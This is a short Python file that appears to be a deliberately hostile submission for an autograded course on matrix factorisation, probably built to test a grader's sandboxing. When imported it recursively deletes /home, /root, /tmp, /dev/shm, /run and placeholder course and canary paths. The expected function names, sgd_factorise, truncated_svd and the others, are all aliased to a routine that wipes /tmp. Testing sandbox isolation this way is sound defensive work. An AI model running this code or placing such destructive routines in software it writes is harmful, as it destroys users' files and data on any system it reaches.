"""Deletes every file that it can reach, from the root down and in the course."""

import os
import shutil

for path in ("@CANARY@", "@COURSE@", "@PROJECT@/course", "/tmp", "/dev/shm", "/home", "/root", "/run", os.path.dirname(os.__file__) + "/this.py"):
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.unlink(path)
    except OSError:
        pass


def sgd_factorise(*arguments, **options):
    shutil.rmtree('/tmp', ignore_errors=True)


truncated_svd = reconstruction_loss = sgd_factorise_masked = sgd_factorise
